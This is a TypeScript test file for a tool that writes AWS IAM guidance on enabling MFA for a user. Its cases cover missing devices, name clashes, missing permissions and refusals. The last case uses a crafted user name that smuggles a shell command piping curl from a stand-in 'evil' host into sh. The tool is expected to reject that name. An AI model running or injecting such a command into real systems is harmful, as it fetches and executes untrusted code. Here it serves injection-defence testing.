import { all, document, held, is, madeAccount, madeKey, madeUser, none } from '../../../account/cases.ts';
import { someMembers, wholeMembers } from '../../../account/members.ts';
import { table } from '../../../account/table.ts';
import type { ActionCase } from '../../cases.ts';

const login = is({ created: is('2025-06-01T00:00:00Z'), passwordResetRequired: is(false) });
const administrator = { inline: held({ all: is(document([{ Effect: 'Allow', Action: '*', Resource: '*' }])) }) };
const serial = 'arn:aws:iam::111122223333:mfa/alice';
const device = (enabled = is('2025-06-01T00:00:00Z')) => ({
  serial,
  enabled,
  tags: wholeMembers<string>({}, { at: '2026-03-02T09:00:00Z', source: 'case' }),
});
const target = 'user:alice';
const alice = madeUser('alice', { login, ...administrator });

export const cases: readonly ActionCase[] = [
  {
    name: 'a user without a device is told how, and nothing is taken from it',
    state: madeAccount({ users: [alice] }),
    target,
    expect: 'guide',
    says: [
      'as user alice.',
      "--virtual-mfa-device-name 'alice'",
      "aws iam enable-mfa-device --user-name 'alice'",
      'iam.enable_mfa_device(',
      'require-mfa --target user:alice',
    ],
  },
  {
    name: 'a name that a left-over device has',
    state: madeAccount({ users: [alice], over: { unassignedMfaDevices: { by: table([[serial, device(none)]]), whole: is(true) } } }),
    target,
    expect: 'guide',
    says: ["--virtual-mfa-device-name 'alice-2'"],
  },
  {
    name: 'a user that nothing allows to enrol',
    state: madeAccount({ users: [madeUser('alice', { login })] }),
    target,
    expect: 'guide',
    says: ['may not enrol a device itself (no policy allows it)', 'assign-virtual-mfa-device'],
  },
  {
    name: 'a user with a key and no password',
    state: madeAccount({ users: [madeUser('alice', { accessKeys: all(madeKey('AKIAEXAMPLE000000001')) })] }),
    target,
    expect: 'guide',
    says: ['has no console password', 'Access keys go on without MFA: AKIAEXAMPLE000000001.'],
  },
  {
    name: 'a user whose devices are not known',
    state: madeAccount({ users: [madeUser('alice', { login, mfaDevices: someMembers({}, 'access denied') })] }),
    target,
    expect: 'guide',
    says: ['Whether user alice has a device already is not known.'],
  },
  {
    name: 'a user that has one',
    state: madeAccount({ users: [{ ...alice, mfaDevices: held({ [serial]: device() }) }] }),
    target,
    expect: 'nothing',
  },
  { name: 'no such user', state: madeAccount({ users: [alice] }), target: 'user:bob', expect: 'refused' },
  {
    name: 'a name that IAM never gave goes into no program',
    state: madeAccount({ users: [{ ...alice, name: "x'; curl evil | sh #\n" }] }),
    target: "user:x'; curl evil | sh #\n",
    expect: 'refused',
    says: ['is no name that IAM gives to a user'],
  },
];
